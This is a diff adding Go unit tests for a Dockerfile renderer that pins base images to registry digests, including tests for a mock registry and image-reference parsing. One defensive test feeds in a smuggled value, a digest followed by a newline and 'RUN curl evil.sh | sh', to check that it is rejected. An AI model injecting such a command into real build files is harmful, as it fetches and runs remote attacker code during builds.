@@ -0,0 +1,137 @@
+package packaging
+
+import (
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+)
+
+const (
+	fakeDigest   = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
+	alpineDigest = "sha256:fedcba9876543210fedcba9876543210fedcba9876543210fedcba9876543210"
+)
+
+// fakeResolver resolves every image to a fixed digest and counts lookups.
+func fakeResolver(calls map[string]int) DigestResolver {
+	return func(ref string) (string, error) {
+		calls[ref]++
+		if strings.HasPrefix(ref, "alpine:") {
+			return alpineDigest, nil
+		}
+		return fakeDigest, nil
+	}
+}
+
+func TestRenderPinDigests(t *testing.T) {
+	calls := map[string]int{}
+	v := Vars{ServiceName: "billing", ExposePort: 8080, PinDigests: true, Resolve: fakeResolver(calls)}
+	out, err := Render("go", v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		"golang:1.22-alpine@" + fakeDigest + " AS builder",
+		"\nFROM alpine:3.19@" + alpineDigest + "\n",
+	} {
+		if !strings.Contains(string(out), want) {
+			t.Errorf("rendered Dockerfile missing %q:\n%s", want, out)
+		}
+	}
+
+	v.Base = BaseDistroless
+	if out, _ = Render("go", v); !strings.Contains(string(out), "FROM gcr.io/distroless/static-debian12:nonroot@"+fakeDigest) {
+		t.Errorf("distroless runtime not pinned:\n%s", out)
+	}
+	if out, _ = Render("node", Vars{ServiceName: "portal", ExposePort: 3000, PinDigests: true, Resolve: fakeResolver(calls)}); strings.Count(string(out), "node:22-alpine@"+fakeDigest) != 2 {
+		t.Errorf("node images not pinned:\n%s", out)
+	}
+
+	// Off, the tags float as before and nothing is looked up.
+	v.PinDigests = false
+	clear(calls)
+	out, _ = Render("go", v)
+	if strings.Contains(string(out), "@sha256:") || len(calls) != 0 {
+		t.Errorf("pinning off still pinned (%v):\n%s", calls, out)
+	}
+}
+
+func TestRenderMultiArchResolvesOnce(t *testing.T) {
+	calls := map[string]int{}
+	out, err := RenderMultiArch(Vars{ServiceName: "billing", ExposePort: 8080, PinDigests: true, Resolve: fakeResolver(calls)}, []string{"amd64", "arm64"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if n := strings.Count(string(out), "golang:1.22-alpine@"+fakeDigest); n != 2 {
+		t.Errorf("%d pinned builder stages, want 2", n)
+	}
+	if calls["golang:1.22-alpine"] != 1 || calls["alpine:3.19"] != 1 {
+		t.Errorf("lookups = %v, want one per image", calls)
+	}
+}
+
+func TestRenderPinDigestsRejectsBadDigests(t *testing.T) {
+	for name, resolve := range map[string]DigestResolver{
+		"error":     func(string) (string, error) { return "", errors.New("registry down") },
+		"injection": func(string) (string, error) { return "sha256:abc\nRUN curl evil.sh | sh", nil },
+		"md5":       func(string) (string, error) { return "md5:0123456789abcdef0123456789abcdef", nil },
+	} {
+		_, err := Render("go", Vars{ServiceName: "billing", ExposePort: 8080, PinDigests: true, Resolve: resolve})
+		if err == nil || !strings.Contains(err.Error(), "pin golang:1.22-alpine") {
+			t.Errorf("%s: %v, want a pin error", name, err)
+		}
+	}
+}
+
+func TestResolveDigest(t *testing.T) {
+	var srv *httptest.Server
+	srv = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch {
+		case r.URL.Path == "/token":
+			if r.URL.Query().Get("scope") != "repository:library/golang:pull" {
+				http.Error(w, "bad scope", http.StatusBadRequest)
+				return
+			}
+			w.Write([]byte(`{"token":"anon"}`))
+		case r.URL.Path != "/v2/library/golang/manifests/1.22-alpine":
+			http.NotFound(w, r)
+		case r.Header.Get("Authorization") != "Bearer anon":
+			w.Header().Set("WWW-Authenticate", `Bearer realm="`+srv.URL+`/token",service="registry",scope="repository:library/golang:pull"`)
+			w.WriteHeader(http.StatusUnauthorized)
+		case r.Method != http.MethodHead || !strings.Contains(r.Header.Get("Accept"), "manifest.list.v2+json"):
+			http.Error(w, "want HEAD with manifest list", http.StatusBadRequest)
+		default:
+			w.Header().Set("Docker-Content-Digest", fakeDigest)
+		}
+	}))
+	defer srv.Close()
+	host := strings.TrimPrefix(srv.URL, "https://")
+
+	got, err := resolveDigest(srv.Client(), host+"/library/golang:1.22-alpine")
+	if err != nil || got != fakeDigest {
+		t.Fatalf("resolveDigest = %q, %v", got, err)
+	}
+	if _, err := resolveDigest(srv.Client(), host+"/library/golang:missing"); err == nil {
+		t.Error("unknown tag resolved")
+	}
+}
+
+func TestSplitImageRef(t *testing.T) {
+	for ref, want := range map[string][3]string{
+		"golang:1.22-alpine":                        {"registry-1.docker.io", "library/golang", "1.22-alpine"},
+		"bitnami/redis:7":                           {"registry-1.docker.io", "bitnami/redis", "7"},
+		"gcr.io/distroless/static-debian12:nonroot": {"gcr.io", "distroless/static-debian12", "nonroot"},
+		"localhost:5000/team/app:v1":                {"localhost:5000", "team/app", "v1"},
+	} {
+		host, repo, tag, err := splitImageRef(ref)
+		if err != nil || [3]string{host, repo, tag} != want {
+			t.Errorf("splitImageRef(%q) = %s %s %s %v, want %v", ref, host, repo, tag, err, want)
+		}
+	}
+	for _, ref := range []string{"golang", "localhost:5000/app", "golang:", "golang:1.22@" + fakeDigest} {
+		if _, _, _, err := splitImageRef(ref); err == nil {
+			t.Errorf("splitImageRef(%q) accepted", ref)
+		}
+	}
+}